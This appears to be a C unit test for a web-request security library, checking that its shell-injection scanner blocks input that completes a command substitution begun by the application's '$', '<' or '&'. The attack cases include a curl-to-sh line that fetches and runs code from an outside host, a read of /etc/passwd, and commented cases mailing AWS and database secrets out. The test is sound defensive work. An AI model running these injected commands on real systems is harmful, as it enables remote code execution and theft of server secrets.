/* review24 (session 32) on main fb8d351, the shell part of
 * review24-main-sql-shell.c: a substitution opened by the application's
 * `$` (a currency sign, "Charged $" + amount) and the input's `(`:
 * `$(id -un)`, inside double quotes too, and `<` + `(id)`, `&` + `&id` --
 * all allowed there (the input holding `$(` fires). Run there: sh and bash
 * printed root for `echo "Charged $(id -un) done"`. A plain word there
 * names a variable: "Charged $" + `AWS_SECRET_ACCESS_KEY` mails the
 * server's secret. General rule: a token or operator that begins in the
 * application's last byte and continues into the input is the input's.
 */
#include "agent_test.h"

/* each wrong verdict is printed; the test fails at its end when any was */
static int bad;
#define WRONG(...) (print_message(__VA_ARGS__), print_message("\n"), bad++)

static const char pol_all[] =
    "{\"interceptors\":{\"sql_injection\":{\"mode\":\"block\"},"
    "\"command_injection\":{\"mode\":\"block\"},\"xss\":{\"mode\":\"block\"},"
    "\"llm_prompt_injection\":{\"mode\":\"block\"}}}";

static struct moat_request *begin(const char *policy_json)
{
	char err[200];
	const struct moat_policy *p = moat_policy_parse(policy_json, 1, err, sizeof err);
	struct moat_request_info ri = {.method = "POST", .endpoint = "/x"};
	struct moat_request *r = NULL;

	if (!p)
		fail_msg("policy: %s", err);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	return r;
}
static int shell_one(const char *pre, const char *input, const char *post)
{
	struct moat_request *r = begin(pol_all);
	char op[512];
	int v;

	snprintf(op, sizeof op, "%s%s%s", pre, input, post);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_FORM, "amount", input, strlen(input)),
	                 0);
	v = moat_check_shell(r, op, strlen(op));
	moat_request_end(r);
	return v;
}

static void a_substitution_begun_by_the_byte_before_the_input_fires(void **state)
{
	static const char *const attacks[][3] = {
	    {"echo \"Charged $", "(id -un)", "\" | mail -s receipt ops@example.com"},
	    {"echo Charged $", "(id -un)", " > /tmp/receipt.txt"},
	    {"notify-send \"Paid $", "(curl -s http://203.0.113.9/x | sh)", "\""},
	    {"logger -t shop \"refund of $", "(cat /etc/passwd)", " issued\""},
	    {"diff /srv/a.txt <", "(id)", ""},
	    {"tar czf /tmp/b.tgz /srv/data &", "& id", ""},
	    /* open (shellfix, session 32: not done; the scanner skips a
	     * one-word input as never syntax, and a variable named in an
	     * argument is not judged): a variable the input names, the
	     * server's environment mailed out --
	     * {"echo \"Charged $", "AWS_SECRET_ACCESS_KEY", "\" | mail -s receipt c@example.com"},
	     * {"echo \"Charged $", "{DATABASE_URL}", "\" | mail -s receipt c@example.com"},
	     */
	};
	static const char *const benign[][3] = {
	    {"echo \"Charged $", "12.50", "\" | mail -s receipt ops@example.com"},
	    {"echo Charged $", "5", " > /tmp/receipt.txt"},
	    {"notify-send \"Paid $", "1,299.00 (incl. VAT)", "\""},
	    {"sort <", "names.txt", ""},
	};

	(void)state;
	bad = 0;
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
		if (shell_one(attacks[i][0], attacks[i][1], attacks[i][2]) != MOAT_BLOCK)
			WRONG("allowed: %s[%s]%s", attacks[i][0], attacks[i][1], attacks[i][2]);
	for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
		if (shell_one(benign[i][0], benign[i][1], benign[i][2]) != MOAT_ALLOW)
			WRONG("blocked: %s[%s]%s", benign[i][0], benign[i][1], benign[i][2]);
	assert_int_equal(bad, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_substitution_begun_by_the_byte_before_the_input_fires),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
